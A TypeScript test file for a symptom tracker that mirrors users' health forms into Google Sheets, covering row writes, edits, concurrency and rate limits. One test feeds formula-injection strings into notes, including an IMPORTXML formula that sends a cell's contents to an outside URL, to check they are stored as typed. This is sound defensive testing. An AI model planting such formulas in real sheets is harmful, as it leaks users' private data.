import { expect, it } from 'vitest';
import { freshUser, type TestUser, testApp } from '../testing/app.ts';
import { onEveryDatabase, openPlace } from '../testing/databases.ts';
import { savedForm } from '../testing/entries.ts';
import {
  anotherMirror,
  mirror,
  mirroredUser,
  spreadsheetOf,
  standInForSheets,
} from '../testing/spreadsheets.ts';

const HEADER = [
  'UserID',
  'Timestamp',
  'SymptomLevel',
  'MedicationTaken',
  'ExerciseMinutes',
  'SleepHours',
  'Mood',
  'Notes',
];

onEveryDatabase((place, onlyOnce) => {
  const settings = {};
  const google = standInForSheets(settings);
  const test = testApp(place, settings);

  const mirrored = async () => (await mirroredUser(test, google)).user;

  async function edit({ browser, userId }: TestUser, formNumber: number, symptom1: object) {
    const formData = { formNumber, symptom1 };
    await browser.call('updateSymptoms', { userId, action: 'form', formData });
  }

  async function setLastFormNumber({ userId }: TestUser, last_form_number: number) {
    const { db } = test.context;
    await db
      .updateTable('profiles')
      .set({ last_form_number })
      .where('user_id', '=', userId)
      .execute();
  }

  it('creates the spreadsheet with its title, its header and a row for each existing form', async () => {
    const user = await freshUser(test, ['Tremor', 'Stiffness']);
    await savedForm(user);
    await google.turnOn(user);
    expect(await spreadsheetOf(user)).toMatchObject({ state: 'waiting', waiting: 1 });
    await mirror(test);
    const book = google.bookOf(user);
    expect(book?.title).toBe(`Symptom Tracker ${user.userId}`);
    expect(google.sheets.valuesOf(book, 'HealthData')).toEqual([
      HEADER,
      [
        user.userId,
        '2026-11-18T12:00:00-05:00',
        3,
        '',
        '',
        '',
        '',
        'Tremor: 4 - After coffee\nStiffness: 2',
      ],
    ]);
    expect(await spreadsheetOf(user)).toEqual({
      state: 'current',
      problem: '',
      spreadsheetId: book?.id,
      url: `https://docs.google.com/spreadsheets/d/${book?.id}`,
      waiting: 0,
      hasLegacySheet: false,
    });
  });

  it('has only the symptoms that were rated, and one that an edit rated later', async () => {
    const user = await mirrored();
    const { formNumber } = await savedForm(user, { symptom1: { name: 'Tremor', severity: 4 } });
    const written = () => google.sheets.valuesOf(google.bookOf(user), 'HealthData').at(-1);
    await mirror(test);
    expect(written()).toMatchObject({ 2: 4, 7: 'Tremor: 4' });
    const symptom2 = { name: 'Stiffness', severity: 1 };
    const formData = { formNumber, symptom2 };
    const { browser, userId } = user;
    await browser.call('updateSymptoms', { userId, action: 'form', formData });
    await mirror(test);
    expect(written()).toMatchObject({ 2: 2.5, 7: 'Tremor: 4\nStiffness: 1' });
  });

  it('writes forms that are saved later, and only new ones', async () => {
    const user = await mirrored();
    const requests = google.sheets.requests.length;
    await savedForm(user, { symptom1: { name: 'Tremor', severity: 5, notes: '' } });
    await mirror(test);
    expect(google.rowsOf(user).map((row) => row[2])).toEqual([3, 5]);
    expect(google.sheets.requests.slice(requests).map(({ id }) => id)).toEqual([
      'get',
      'valuesBatchUpdate',
    ]);
    await mirror(test);
    expect(google.sheets.requests).toHaveLength(requests + 2);
  });

  it('changes only the row of an edited form', async () => {
    const user = await mirrored();
    await savedForm(user);
    await mirror(test);
    const [, second] = google.rowsOf(user);
    await edit(user, 1, { name: 'Tremor', severity: 1, notes: 'Better' });
    await mirror(test);
    const rows = google.rowsOf(user);
    expect(rows).toHaveLength(2);
    expect(rows[0]?.slice(2)).toEqual([1.5, '', '', '', '', 'Tremor: 1 - Better\nStiffness: 2']);
    expect(rows[1]).toEqual(second);
  });

  it('empties the cells of a deleted form, and writes a restored one again', async () => {
    const user = await mirrored();
    await savedForm(user);
    await mirror(test);
    const before = google.rowsOf(user);
    const { browser, userId } = user;
    await browser.call('deleteForm', { userId, formNumber: 1 });
    await mirror(test);
    expect(google.rowsOf(user)).toEqual([[], before[1]]);
    await browser.call('restoreForm', { userId, formNumber: 1 });
    await mirror(test);
    expect(google.rowsOf(user)).toEqual(before);
  });

  it('writes an edit that is made while the form is being written', async () => {
    const user = await mirrored();
    await savedForm(user);
    test.now += 3000;
    const write = google.sheets.holdNext('valuesBatchUpdate');
    const writing = test.context.jobs.runDue('writeSpreadsheet');
    await write.reached;
    await edit(user, 2, { name: 'Tremor', severity: 1, notes: 'Meanwhile' });
    write.letGo();
    await writing;
    expect(google.rowsOf(user)[1]?.[7]).toBe('Tremor: 4 - After coffee\nStiffness: 2');
    await mirror(test);
    expect(google.rowsOf(user)[1]?.[7]).toBe('Tremor: 1 - Meanwhile\nStiffness: 2');
    expect(await spreadsheetOf(user)).toMatchObject({ state: 'current' });
  });

  onlyOnce(() => {
    it.each([
      '=1+1',
      '=IMPORTXML("https://example.org/"&A1,"//a")',
      '+49 30 123456',
      '-1',
      '@here',
      "'quoted",
      '007',
      '1e5',
      'TRUE',
      '11/18/2026',
      'two\nlines\r\nand\ttab',
      '😀👩‍👩‍👧 naïve Ünïcödé 日本語 עברית',
      '"comma, and quote"',
    ])('%j in a note arrives as it was typed', async (notes) => {
      const user = await mirrored();
      await savedForm(user, { symptom1: { name: notes.split(/[\r\n]/)[0], severity: 2, notes } });
      await mirror(test);
      const name = notes.split(/[\r\n]/)[0];
      expect(google.rowsOf(user)[1]?.[7]).toBe(`${name}: 2 - ${notes}`);
    });
  });

  it('keeps the user’s entries in the columns without data in the app', async () => {
    const user = await mirrored();
    const cells = google.bookOf(user)?.sheets[0]?.cells[1];
    if (cells) cells[6] = 'Cheerful';
    await edit(user, 1, { name: 'Tremor', severity: 2, notes: '' });
    await mirror(test);
    expect(google.rowsOf(user)[0]?.slice(2, 7)).toEqual([2, '', '', '', 'Cheerful']);
  });

  it('adds rows to a full sheet, also after an interruption', async () => {
    const user = await mirrored();
    await setLastFormNumber(user, 998);
    for (let form = 0; form < 3; form += 1) await savedForm(user);
    google.sheets.faults.push(undefined, { kind: 'cut', after: true });
    await mirror(test);
    expect(google.rowsOf(user)).toHaveLength(1);
    test.now += 5000;
    await mirror(test);
    expect(google.rowsOf(user)).toHaveLength(1001);
    expect(
      google
        .rowsOf(user)
        .slice(998)
        .map(([id]) => id),
    ).toEqual(Array(3).fill(user.userId));
  });

  it('recreates a renamed sheet with all its rows', async () => {
    const user = await mirrored();
    const [sheet] = google.bookOf(user)?.sheets ?? [];
    if (sheet) sheet.title = 'My doctor';
    await savedForm(user);
    await mirror(test);
    await mirror(test);
    expect(google.sheets.valuesOf(google.bookOf(user), 'HealthData')[0]).toEqual(HEADER);
    expect(google.rowsOf(user).map(([userId]) => userId)).toEqual([user.userId, user.userId]);
    expect(google.sheets.valuesOf(google.bookOf(user), 'My doctor')).toHaveLength(2);
  });

  onlyOnce(() => {
    it('ignores the case of the sheet’s title', async () => {
      const user = await mirrored();
      const [sheet] = google.bookOf(user)?.sheets ?? [];
      if (sheet) sheet.title = 'healthData';
      await savedForm(user);
      await mirror(test);
      expect(await spreadsheetOf(user)).toMatchObject({ state: 'current' });
      expect(google.sheets.valuesOf(google.bookOf(user), 'healthData')).toHaveLength(3);
    });
  });

  onlyOnce(() => {
    it('splits many long notes into several requests, none of them large', async () => {
      const user = await mirrored();
      const notes = 'long '.repeat(2000);
      const names = ['Tremor', 'Stiffness', 'Balance', 'Fatigue', 'Cramps'];
      const entries = names.map((name, index) => [
        `symptom${index + 1}`,
        { name, severity: 1, notes },
      ]);
      for (let form = 0; form < 15; form += 1) await savedForm(user, Object.fromEntries(entries));
      const requests = google.sheets.requests.length;
      for (let batch = 0; batch < 3; batch += 1) await mirror(test);
      expect(google.rowsOf(user)).toHaveLength(16);
      const written = google.sheets.requests.slice(requests).filter(({ writes }) => writes);
      expect(written).toHaveLength(2);
      for (const { bytes } of written) expect(bytes).toBeLessThan(2_000_000);
      expect(String(google.rowsOf(user)[1]?.[7]).length).toBe(50_000);
    });
  });

  onlyOnce(() => {
    it('writes at most 60 times a minute for one user, however often they save', async () => {
      const user = await mirrored();
      const begun = test.now;
      const requests = google.sheets.requests.length;
      while (test.now < begun + 60_000) {
        await savedForm(user);
        await test.context.jobs.runDue('writeSpreadsheet');
        test.now += 250;
      }
      const writing = google.sheets.requests.slice(requests).filter(({ writes }) => writes);
      expect(writing.length).toBeLessThanOrEqual(60);
      await mirror(test);
      expect(google.rowsOf(user)).toHaveLength(241);
    });
  });

  it('writes each user’s forms only to their own spreadsheet', async () => {
    const [first, second] = [await mirrored(), await mirrored()];
    await savedForm(second, { symptom1: { name: 'Tremor', severity: 1, notes: 'Mine' } });
    await mirror(test);
    expect(google.rowsOf(first)).toHaveLength(1);
    expect(google.rowsOf(second)).toHaveLength(2);
    const seen = await first.browser.call('getSpreadsheet', { userId: second.userId });
    expect(seen.statusCode).toBe(404);
  });

  it('is off, without a spreadsheet, for a user who never turned it on', async () => {
    const user = await freshUser(test, ['Tremor']);
    await savedForm(user);
    const requests = google.sheets.requests.length;
    await mirror(test);
    expect(google.sheets.requests).toHaveLength(requests);
    expect(await spreadsheetOf(user)).toEqual({
      state: 'off',
      problem: '',
      spreadsheetId: '',
      url: '',
      waiting: 0,
      hasLegacySheet: false,
    });
  });

  it('writes each form once with four mirrors on separate connections', async () => {
    const users: TestUser[] = [];
    while (users.length < 6) users.push(await mirrored());
    for (const user of users) await savedForm(user);
    test.now += 3000;
    const requests = google.sheets.requests.length;
    const databases = await Promise.all(Array.from({ length: 4 }, () => openPlace(place())));
    await Promise.all(databases.map((db) => anotherMirror({ ...test.context, db })()));
    await Promise.all(databases.map((db) => db.destroy()));
    const written = google.sheets.requests.slice(requests).filter(({ writes }) => writes);
    expect(written).toHaveLength(users.length);
    for (const user of users) expect(google.rowsOf(user)).toHaveLength(2);
  });

  it('writes all rows to the reported spreadsheet if it is turned off and on while Google creates one', async () => {
    const user = await freshUser(test, ['Tremor', 'Stiffness']);
    await savedForm(user);
    const subject = await google.turnOn(user);
    const [creating, first] = [
      google.sheets.holdNext('create'),
      test.context.jobs.runDue('writeSpreadsheet'),
    ];
    await creating.reached;
    test.now += 1000;
    await user.browser.call('turnOffSpreadsheet', { userId: user.userId });
    await google.turnOn(user, subject);
    const [again, second] = [google.sheets.holdNext('create'), anotherMirror(test.context)()];
    await again.reached;
    creating.letGo();
    await first;
    again.letGo();
    await second;
    await savedForm(user);
    await mirror(test);
    const { state, spreadsheetId } = await spreadsheetOf(user);
    expect(state).toBe('current');
    const told = google.sheets.books.get(spreadsheetId);
    const rows = google.sheets.valuesOf(told, 'HealthData');
    expect(rows.map(([id]) => id)).toEqual(['UserID', user.userId, user.userId]);
    expect(google.rowsOf(user)).toEqual([]);
  });

  it('repairs the rows that a process wrote after its lease had ended', async () => {
    const user = await mirrored();
    await savedForm(user);
    test.now += 3000;
    const asleep = google.sheets.holdNext('valuesBatchUpdate');
    const slow = test.context.jobs.runDue('writeSpreadsheet');
    await asleep.reached;
    test.now += 300_000;
    await edit(user, 2, { name: 'Tremor', severity: 1, notes: 'Newer' });
    await anotherMirror(test.context)();
    expect(google.rowsOf(user)[1]?.[7]).toBe('Tremor: 1 - Newer\nStiffness: 2');
    asleep.letGo();
    await slow;
    expect(google.rowsOf(user)[1]?.[7]).toBe('Tremor: 4 - After coffee\nStiffness: 2');
    await mirror(test);
    expect(google.rowsOf(user)[1]?.[7]).toBe('Tremor: 1 - Newer\nStiffness: 2');
  });
});
